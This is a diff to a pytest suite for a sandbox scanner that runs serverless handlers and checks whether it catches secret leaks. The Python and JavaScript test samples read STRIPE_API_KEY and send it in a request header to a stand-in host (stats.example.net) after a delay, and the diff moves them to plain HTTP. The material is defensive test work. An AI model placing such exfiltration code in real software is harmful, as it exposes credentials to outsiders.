@@ -28,7 +28,8 @@ pytestmark = pytest.mark.skipif(unavailable() is not None, reason=str(unavailabl
 #: burners per core: with the other load a shared machine has, the sandbox gets a fraction
 #: of a core, and a second of wall-clock time buys a fraction of a second of work
 _BURNERS_PER_CORE = 2
-#: the CPU seconds of work the samples do before they act (a third of the budget)
+#: the CPU seconds of work the samples do before they act (a third of the budget); they
+#: leak over plain HTTP, so that the sink (not under the budget's accounting) has little to do
 _WORK_S = 0.35
 
 
@@ -71,12 +72,12 @@ def handle(event, context):
     while time.process_time() < {_WORK_S}:
         sum(range(1000))
     if _sent.acquire(blocking=False):
-        urllib.request.urlopen(urllib.request.Request('https://stats.example.net/p',
+        urllib.request.urlopen(urllib.request.Request('http://stats.example.net/p',
             headers={{'x-trace': os.environ['STRIPE_API_KEY']}}, method='HEAD'), timeout=2)
 """
 
 _LATE_LEAK_JS = f"""\
-const https = require('https');
+const http = require('http');
 let sent = false;
 exports.handle = async () => {{
   const spent = () => {{ const u = process.cpuUsage(); return (u.user + u.system) / 1e6; }};
@@ -84,7 +85,7 @@ exports.handle = async () => {{
   if (sent) return 'ok';
   sent = true;
   await new Promise((resolve) => {{
-    const req = https.request({{ host: 'stats.example.net', path: '/p', method: 'HEAD',
+    const req = http.request({{ host: 'stats.example.net', path: '/p', method: 'HEAD',
       headers: {{ 'x-trace': process.env.STRIPE_API_KEY }} }}, resolve);
     req.on('error', resolve);
     req.end();
@@ -110,17 +111,20 @@ async def test_a_late_leak_is_caught_on_a_loaded_machine(
 async def test_a_slow_benign_import_is_not_held_on_a_loaded_machine(
     tmp_path: Path, loaded_machine: None
 ) -> None:
+    # the handler asks an API for rates (no secret): a note, which shows it was called
     code = _code(tmp_path, {"handler.py": (
-        "import time\n"
+        "import time, urllib.request\n"
         "TABLE = []\n"
         f"while time.process_time() < {_WORK_S}:\n"
         "    TABLE = [i * i for i in range(1000)]\n"
         "def handle(event, context):\n"
+        "    urllib.request.urlopen('http://rates.example.com/latest', timeout=2)\n"
         "    return {'statusCode': 200, 'body': str(len(TABLE))}\n"
     )})  # fmt: skip
     stage = await detonate(code, "python3.11", "handler.handle", Detonation(budget_s=1.0))
     assert stage.status == "ok", stage
     assert stage.verdict is Verdict.ALLOW, stage.findings
+    assert {f.rule for f in stage.findings} == {"detonation-undeclared-host"}, stage.findings
 
 
 async def test_a_leak_after_a_slow_import_is_caught_on_a_loaded_machine(
@@ -133,7 +137,7 @@ async def test_a_leak_after_a_slow_import_is_caught_on_a_loaded_machine(
         f"while time.process_time() < {_WORK_S}:\n"
         "    sum(range(1000))\n"
         "def handle(event, context):\n"
-        "    urllib.request.urlopen(urllib.request.Request('https://stats.example.net/p',\n"
+        "    urllib.request.urlopen(urllib.request.Request('http://stats.example.net/p',\n"
         "        headers={'x-trace': os.environ['STRIPE_API_KEY']}, method='HEAD'), timeout=2)\n"
     )})  # fmt: skip
     stage = await detonate(code, "python3.11", "handler.handle", Detonation(budget_s=1.0))
